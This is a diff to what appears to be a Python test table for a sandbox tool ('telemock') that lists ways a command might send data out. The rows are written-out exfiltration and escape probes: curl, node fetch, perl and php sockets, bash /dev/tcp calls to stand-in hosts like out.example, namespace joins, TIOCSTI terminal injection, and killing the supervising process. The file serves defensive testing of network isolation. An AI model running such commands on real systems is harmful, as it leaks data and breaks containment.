@@ -1,3 +1,4 @@
+# ruff: noqa: E501  # a script is a line
 """Ways by which a command could send: each is caught by a gate, or makes coverage incomplete, or is
 closed. A way that somebody found becomes a row.
 
@@ -72,7 +73,7 @@ WEB: dict[str, tuple[str, str]] = {
     "another proxy outside": ("to ", f"s = socket.create_connection(('{OUT}', 80))\n"
         "s.send(b'CONNECT secret.example:443 HTTP/1.1\\r\\nhost: secret.example\\r\\n\\r\\n'); s.close()"),
     "another port by the proxy": ("to out.example", f"sh:{CURL} -p http://out.example:8080/secret"),
-    "node": ("to out.example", "sh:node -e \"fetch('https://out.example/secret').catch(() => 0)\""),
+    "node": (way.LOOKUP, "sh:node -e \"fetch('https://out.example/secret').catch(() => 0)\""),
     "perl": (f"to {OUT}", f"sh:perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"{OUT}:80\")->print(\"x\")'"),
     "php": (f"to {OUT}", f"sh:timeout 5 php -r '@file_get_contents(\"http://{OUT}/secret\");'"),
     "bash": (f"to {OUT}", f"sh:bash -c 'echo secret >/dev/tcp/{OUT}/80'"),
@@ -167,7 +168,7 @@ OTHERS: dict[str, tuple[str, str]] = {
     "a helper, another root": (way.LOCAL, f"import os; os.chroot(HELPER)\n{stream('\"/stream\"')}"),
     "a helper, datagrams": (way.LOCAL, "s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b'x', HELPER + '/datagrams')"),
     "a helper, packets": (way.LOCAL, "s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET); s.connect(HELPER + '/packets'); s.send(b'x')"),
-    "a helper that is slow": (way.LOCAL, f"{UNIX}s.settimeout(2)\ntry: s.connect(HELPER + '/slow')\nexcept OSError: pass"),
+    "a helper that is slow": (way.LOCAL, f"import signal; signal.alarm(3)\n{UNIX}s.connect(HELPER + '/slow')"),
     "a helper's connection": (way.LOCAL, f"{UNIX}s.connect(HELPER + '/stream')\n"
         "fd = socket.recv_fds(s, 1, 1)[1][0]; socket.socket(fileno=fd).send(b'x')"),
     "docker": (way.DAEMON, stream("HELPER + '/docker.sock'")),
@@ -197,17 +198,17 @@ SOCKETS: dict[str, tuple[str, str]] = {
     "vsock": socket_of(40, 1), "bluetooth": socket_of(31, 1, 3), "can": socket_of(29, 3, 1),
     "tipc": socket_of(30, 2), "xdp": socket_of(44, 3), "smc": socket_of(43, 1), "rds": socket_of(21, 5),
     "io_uring": (CLOSED, calls(425, 8, "ctypes.create_string_buffer(120)")),
-    "a network of its own": (way.OTHER_NETWORK, f"sh:unshare -rn sh -c 'ip link set lo up; ip route add default dev lo; bash -c \"echo x >/dev/tcp/{OUT}/443\"'"),
+    "a network of its own": (way.OTHER_NETWORK, f"sh:unshare -rn sh -c 'ip link set lo up; ip route add default dev lo; timeout 2 bash -c \"echo x >/dev/tcp/{OUT}/443\"'"),
     "an interface": (CLOSED, "sh:ip link add v0 type vxlan id 5 remote 203.0.114.9 dstport 4789 || exit 7"),
     "a route": (CLOSED, "sh:ip route add 127.9.0.0/16 via 10.0.0.1 || exit 7"),
     "the firewall": (CLOSED, "sh:nft add table ip t2 || exit 7"),
     "a network's file system": (CLOSED, "sh:mount -t nfs -o addr=203.0.114.9,vers=3,nolock 203.0.114.9:/x /mnt || exit 7"),
-    "another network": (CLOSED, f"{C}import sys\nfd = os.open(f'/proc/{{VICTIM}}/ns/net', 0); r = libc.setns(fd, 0x40000000); sys.exit(7 if r else 0)"),
+    "another network": (CLOSED, refused("import os; os.setns(os.open(f'/proc/{VICTIM}/ns/net', 0), 0x40000000)")),
 }  # fmt: skip
 
 PROCESSES: dict[str, tuple[str, str]] = {
     "a daemon": (way.DATAGRAMS, "import os, time\n"
-        f"if os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\ntime.sleep(.5)\n{UDP}u.sendto(b'x', ('{OUT}', 4433))"),
+        f"if os.fork(): time.sleep(1); os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\ntime.sleep(.5)\n{UDP}u.sendto(b'x', ('{OUT}', 4433))"),
     "a child that stays": ("descendants", "sh:setsid sleep 300 >/dev/null 2>&1 & exit 0"),
     "nohup": ("descendants", "sh:nohup sh -c 'sleep 300; curl http://out.example/' >/dev/null 2>&1 &"),
     "a process namespace": (way.DATAGRAMS, f"sh:unshare -rpf bash -c 'echo x >/dev/udp/{OUT}/4433'"),
@@ -219,7 +220,7 @@ PROCESSES: dict[str, tuple[str, str]] = {
         "sys.exit(7 if libc.process_vm_writev(VICTIM, l, 1, r, 1, 0) < 0 else 0)"),
     "another program's socket": (CLOSED, calls(438, "os.pidfd_open(VICTIM)", "TAKEN", 0)),
     "a signal to another program": (CLOSED, refused("import os; os.kill(VICTIM, 18)")),
-    "the end of telemock": (CLOSED, refused("import os; os.kill(os.getppid(), 9)")),
+    "the end of telemock": (CLOSED, refused("import os; up = open(f'/proc/{os.getppid()}/stat').read().rpartition(')')[2]; os.kill(int(up.split()[1]), 9)")),
     "typing into the terminal": (CLOSED, refused("import fcntl; fcntl.ioctl(0, 0x5412, b'x')")),
     "the kernel's keys": (CLOSED, calls("249 if os.uname().machine == 'x86_64' else 218", "b'dns_resolver'", "b'secret.evil.example'", "b''", -4)),
     "the kernel's helpers": (CLOSED, refused("open('/proc/sys/kernel/core_pattern', 'w').close()")),
